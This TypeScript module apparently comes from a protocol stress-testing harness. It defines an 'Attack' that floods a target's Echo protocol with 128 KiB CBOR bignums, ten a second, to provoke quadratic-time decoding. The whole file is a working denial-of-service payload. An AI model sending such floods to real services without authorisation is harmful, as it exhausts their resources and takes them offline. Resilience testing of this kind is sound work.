import { sendBody } from '../foe/send-body.ts'
import { Grudge } from '../foe/grudge.ts'
import { Echo } from '../messages.ts'
import type { Attack } from '../attack.ts'

const BIGNUM = new Uint8Array(128 * 1024).fill(0xff)
BIGNUM.set([0xc2, 0x5a, 0x00, 0x01, 0xff, 0xfa])

/** Quadratic in a decoder that knows tag 2. */
export const bignum: Attack = {
  row: 8,
  what: 'a bignum of 128 KiB, 10 a second',
  strikesPerSecond: 10,
  begin: target =>
    Grudge.begin(
      target,
      () => {},
      foe => sendBody(foe, Echo.protocolId, BIGNUM)
    )
}
